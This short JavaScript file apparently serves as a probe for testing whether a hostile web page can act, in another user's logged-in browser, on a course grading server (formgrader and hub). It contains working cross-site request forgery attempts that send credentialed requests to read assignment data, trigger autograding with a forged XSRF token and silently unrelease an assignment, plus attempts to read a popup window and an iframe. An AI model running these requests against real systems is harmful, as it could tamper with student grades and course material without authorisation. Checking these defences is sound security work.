// What a page of one person tries in the browser of another, who is logged in elsewhere.
window.attack = async (target, hub) => {
  const found = {};
  const attempt = async (name, action) => {
    try { found[name] = await action(); } catch (error) { found[name] = 'blocked'; }
  };
  const withCookies = {credentials: 'include'};
  const read = url => async () => (await fetch(url, withCookies)).text();
  await attempt('read formgrader', read(target + 'formgrader/api/assignments'));
  await attempt('read the hub', read(hub));
  await attempt('change a mark', async () => {
    const reply = await fetch(target + 'formgrader/api/assignment/perceptron/autograde', {
      ...withCookies, method: 'POST', headers: {'X-XSRFToken': 'x'}
    });
    return reply.ok ? 'done' : 'blocked';
  });
  await attempt('take the release back, unseen', async () => {
    await fetch(target + 'formgrader/api/assignment/perceptron/unrelease', {
      ...withCookies, method: 'POST', mode: 'no-cors'
    });
    return 'sent';
  });
  await attempt('look into a window', async () => {
    const other = window.open(target + 'lab');
    await new Promise(done => setTimeout(done, 1000));
    return other.document.title;
  });
  await attempt('look into a frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = target + 'formgrader/manage_assignments';
    const loaded = new Promise(done => { frame.onload = done; });
    document.body.append(frame);
    await loaded;
    return frame.contentDocument === null ? 'blocked' : frame.contentDocument.title;
  });
  window.result = found;
};
